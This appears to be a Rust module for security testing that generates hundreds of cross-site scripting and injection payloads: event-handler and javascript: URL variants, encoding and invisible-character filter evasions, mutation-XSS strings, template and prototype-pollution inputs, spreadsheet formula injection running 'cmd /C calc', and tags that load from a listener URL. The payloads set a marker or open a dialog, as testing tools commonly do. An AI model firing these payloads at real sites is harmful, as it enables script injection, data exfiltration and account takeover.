//! Texts that run or load something if the page interprets them as more than text.
//!
//! They are combined from lists of elements, handlers, quotings and URLs. Each one that runs sets the global
//! `ran` or opens a dialog; each one that loads something connects to the listener.

use std::collections::BTreeSet;

const SCRIPTS: [&str; 3] = ["top.ran=1", "alert(1)", "top[/ra/.source+`n`]=1"];

/// Elements that load something, take the focus or start an animation by themselves.
const ELEMENTS: [&str; 24] = [
    "img src=x",
    "img src=LISTENER/a",
    "img srcset=LISTENER/b",
    "image src=x",
    "svg",
    "svg><animate",
    "math",
    "body",
    "video src=LISTENER/c autoplay",
    "video><source src=x",
    "audio src=x",
    "input type=image src=LISTENER/d",
    "input autofocus",
    "details open",
    "select autofocus",
    "textarea autofocus",
    "button autofocus",
    "iframe src=LISTENER/e",
    "object data=LISTENER/f",
    "embed src=LISTENER/g",
    "link rel=stylesheet href=LISTENER/h",
    "script src=LISTENER/i",
    "x tabindex=1 autofocus",
    "marquee",
];

const HANDLERS: [&str; 8] = [
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onstart",
    "onanimationstart",
    "oncontentvisibilityautostatechange",
];

/// Ways to quote a handler's value.
const QUOTINGS: [fn(&str) -> String; 6] = [
    |script| format!("={script}"),
    |script| format!("=\"{script}\""),
    |script| format!("='{script}'"),
    |script| format!(" = {script} "),
    |script| format!("={}", script.replace('t', "&#116;").replace('=', "&equals;")),
    |script| format!("\t=\t'&#x{:x};{}'", script.as_bytes()[0], &script[1..]),
];

/// Elements that contain a URL, in place of `URL`.
const CARRIERS: [&str; 10] = [
    "<a href=\"URL\" autofocus>x</a>",
    "<iframe src=\"URL\"></iframe>",
    "<form action=\"URL\"><input type=submit autofocus></form>",
    "<button formaction=\"URL\" form=f>x</button>",
    "<object data=\"URL\"></object>",
    "<embed src=\"URL\">",
    "<svg><a xlink:href=\"URL\"><text y=9>x</text></a></svg>",
    "<math><mi xlink:href=\"URL\">x</mi></math>",
    "<meta http-equiv=refresh content=\"0;url=URL\">",
    "<base href=\"URL//\">",
];

const ADDRESSES: [&str; 7] = [
    "javascript:top.ran=1",
    "JaVaScRiPt:top.ran=1",
    "java\tscript:top.ran=1",
    "&#106;avascript&colon;top.ran=1",
    "vbscript:Execute(1)",
    "data:text/html,<script>top.ran=1</script>",
    "LISTENER/j",
];

/// Other texts, one per line.
const OTHERS: &str = r#"
<script>top.ran=1</script>
<ScRiPt>top.ran=1</sCrIpT>
<script>top.ran=1//
<script/x>top.ran=1</script >
<script type=module>import 'LISTENER/k'</script>
<script type=importmap>{"imports":{"x":"LISTENER/l"}}</script>
<svg><script href=LISTENER/m></script></svg>
<script>fetch('LISTENER/n')</script>
<scr<script>ipt>top.ran=1</scr</script>ipt>
</script><script>top.ran=1</script>
</title><script>top.ran=1</script>
</textarea><script>top.ran=1</script>
</style><script>top.ran=1</script>
</noscript><script>top.ran=1</script>
</template><script>top.ran=1</script>
</xmp><script>top.ran=1</script>
]]><script>top.ran=1</script>
--><script>top.ran=1</script>
--!><script>top.ran=1</script>
?><script>top.ran=1</script>
"><script>top.ran=1</script>
'><script>top.ran=1</script>
`><script>top.ran=1</script>
" onfocus="top.ran=1" autofocus x="
' onfocus='top.ran=1' autofocus x='
` onfocus=`top.ran=1` autofocus
x onpointerenter=top.ran=1
" style="position:fixed;inset:0" onpointermove="top.ran=1
\"-top.ran=1-\"
';top.ran=1;//
\';top.ran=1;//
</bdi></span></dd><img src=LISTENER/o onerror=top.ran=1>
<!--<img src="--><img src=x onerror=top.ran=1>">
<!-- <script>top.ran=1</script>
<!><img src=x onerror=top.ran=1>
<![CDATA[<img src=x onerror=top.ran=1>]]>
<?xml-stylesheet href="LISTENER/p"?>
<!DOCTYPE x SYSTEM "LISTENER/q">
<!ENTITY x SYSTEM "LISTENER/r">
<img src=x onerror=top.ran=1
<img src="x` `<script>top.ran=1</script>"` `>
<img/src=x/onerror=top.ran=1>
<img	src=x	onerror=top.ran=1>
<<img src=x onerror=top.ran=1>
< img src=x onerror=top.ran=1>
<a<img src=x onerror=top.ran=1>
&lt;img src=x onerror=top.ran=1&gt;
&#60;img src=x onerror=top.ran=1&#62;
&#x3c;img src=x onerror=top.ran=1&#x3e;
&amp;lt;script&amp;gt;top.ran=1&amp;lt;/script&amp;gt;
%3Cscript%3Etop.ran=1%3C/script%3E
\u003cscript\u003etop.ran=1\u003c/script\u003e
\x3cscript\x3etop.ran=1\x3c/script\x3e
+ADw-script+AD4-top.ran+AD0-1+ADw-/script+AD4-
＜script＞top.ran=1＜/script＞
<style>@import'LISTENER/s';</style>
<style>*{background:url(LISTENER/t)}</style>
<style>@font-face{font-family:x;src:url(LISTENER/u)}*{font-family:x}</style>
<style>input[value^=a]{background:url(LISTENER/v)}</style>
<style>@keyframes x{}</style><x style=animation-name:x onanimationstart=top.ran=1>
<div style="background:url(LISTENER/w)">
<div style="width:expression(top.ran=1)">
<div style="-moz-binding:url(LISTENER/x)">
<div style="list-style:url(LISTENER/y);display:list-item">
<div style="behavior:url(LISTENER/z)">
url(LISTENER/css)
expression(top.ran=1)
{{constructor.constructor('top.ran=1')()}}
{{7*7}}{{$on.constructor('top.ran=1')()}}
${top.ran=1}
`${top.ran=1}`
#{top.ran=1}
<%= top.ran=1 %>
<#assign x="freemarker">${x}
{@html '<img src=x onerror=top.ran=1>'}
{@render top.ran=1}
{@const x=top.ran=1}
{#if top.ran=1}{/if}
[[top.ran=1]]
{%raw%}<script>top.ran=1</script>{%endraw%}
<svg><style><img src=x onerror=top.ran=1></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.ran=1&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=top.ran=1 src>">
<svg></p><style><a id="</style><img src=x onerror=top.ran=1>">
<noscript><p title="</noscript><img src=x onerror=top.ran=1>">
<math><annotation-xml encoding=text/html><img src=x onerror=top.ran=1></annotation-xml></math>
<svg><foreignObject><img src=x onerror=top.ran=1></foreignObject></svg>
<table><td background=LISTENER/td>
<select><template><img src=x onerror=top.ran=1></template></select>
<template shadowrootmode=open><img src=x onerror=top.ran=1></template>
<svg><use href="data:image/svg+xml,<svg id=x onload=top.ran=1>#x">
<svg><image href=LISTENER/si onload=top.ran=1>
<svg><feImage href=LISTENER/fe></svg>
<svg><set attributeName=href to=javascript:top.ran=1>
<svg><animate attributeName=href values=javascript:top.ran=1 />
<iframe srcdoc="<script>top.ran=1</script>"></iframe>
<iframe srcdoc='&lt;script&gt;top.ran=1&lt;/script&gt;'></iframe>
<frameset onload=top.ran=1><frame src=LISTENER/fr></frameset>
<portal src=LISTENER/po></portal>
<applet code=LISTENER/ap></applet>
<bgsound src=LISTENER/bg>
<video poster=LISTENER/vp></video>
<video><track default src=LISTENER/vt></video>
<link rel=prefetch href=LISTENER/lp>
<link rel=preconnect href=LISTENER>
<link rel=dns-prefetch href=LISTENER>
<link rel=modulepreload href=LISTENER/lm>
<link rel=manifest href=LISTENER/lf>
<link rel=icon href=LISTENER/li>
<meta http-equiv=Set-Cookie content=a=b>
<meta http-equiv=Content-Security-Policy content="script-src 'none'">
<meta name=referrer content=unsafe-url>
<isindex type=image src=LISTENER/is onerror=top.ran=1>
<dialog open onclose=top.ran=1><form method=dialog><button autofocus>
<button popovertarget=p>x</button><div popover id=p onbeforetoggle=top.ran=1>
<form id=__TAURI_INTERNALS__><input name=invoke></form>
<form name=body><input name=firstChild></form>
<img name=getElementById>
<a id=location href=LISTENER/cl><a id=location name=href>
<img id=desk><img id=panel-exitRestriction><p id=tab-exitRestriction>
<input name=attributes><input name=parentNode>
<object name=cookie></object><embed name=currentScript>
__proto__
constructor.prototype.ran
constructor[prototype][ran]=1
__proto__[ran]=1
{"__proto__":{"ran":1}}
hasOwnProperty
toString
valueOf
javascript:top.ran=1
data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=
blob:null/top.ran=1
file:///etc/hosts
//127.0.0.1/x
\\127.0.0.1\x
tauri://localhost/index.html
ipc://localhost/forget_credential
=HYPERLINK("LISTENER/hy","x")
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
%0d%0aSet-Cookie:a=b
"#;

/// Texts with invisible characters.
const UNSEEN: [&str; 14] = [
    "\u{0}<script>top.ran=1</script>",
    "<scr\u{0}ipt>top.ran=1</scr\u{0}ipt>",
    "<img src=x one\u{0}rror=top.ran=1>",
    "<script\u{c}>top.ran=1</script>",
    "<img\u{b}src=x\u{b}onerror=top.ran=1>",
    "<img src=x\r\nonerror=top.ran=1>",
    "\u{202e}<script>top.ran=1</script>",
    "\u{2067}<img src=x onerror=top.ran=1>\u{2069}",
    "<\u{200b}script>top.ran=1</\u{200b}script>",
    "\u{feff}<script>top.ran=1</script>",
    "java\u{ad}script:top.ran=1",
    "<script>top.ran=1\u{2028}</script>",
    "שלום<img src=x onerror=top.ran=1>עולם",
    "\u{1b}]8;;javascript:top.ran=1\u{7}x",
];

/// All texts, without duplicates. `listener`: the URL that they load from.
pub fn payloads(listener: &str) -> Vec<String> {
    let handled = ELEMENTS.iter().enumerate().flat_map(|(e, element)| {
        HANDLERS.iter().enumerate().map(move |(h, handler)| {
            let value = QUOTINGS[(e + h) % QUOTINGS.len()](SCRIPTS[(e + 2 * h) % SCRIPTS.len()]);
            format!("<{element} {handler}{value}>")
        })
    });
    let addressed =
        CARRIERS.iter().flat_map(|carrier| ADDRESSES.iter().map(|address| carrier.replace("URL", address)));
    let others = OTHERS.lines().filter(|line| !line.is_empty()).map(str::to_owned);
    let unseen = UNSEEN.iter().map(|text| (*text).to_owned());
    let all = handled.chain(addressed).chain(others).chain(unseen);
    // Sorted, so that every run puts the same text into the same field.
    all.map(|text| text.replace("LISTENER", listener)).collect::<BTreeSet<_>>().into_iter().collect()
}

/// Harmless texts of the same shape: the same length, the same spaces, brackets and invisible characters in
/// the same places, and equally distinct.
pub fn harmless(hostile: &[String]) -> Vec<String> {
    let plain = |(number, text): (usize, &String)| {
        let mut mark = format!("{number:03}").into_bytes().into_iter();
        let worn = |character: char| match character {
            ' ' | '(' | ')' | '（' | '）' => character,
            unseen if !unseen.is_alphanumeric() && !('!'..='~').contains(&unseen) => unseen,
            _ => mark.next().map_or('甲', |digit| NUMERALS[usize::from(digit - b'0')]),
        };
        text.chars().map(worn).collect()
    };
    hostile.iter().enumerate().map(plain).collect()
}

const NUMERALS: [char; 10] = ['零', '一', '二', '三', '四', '五', '六', '七', '八', '九'];
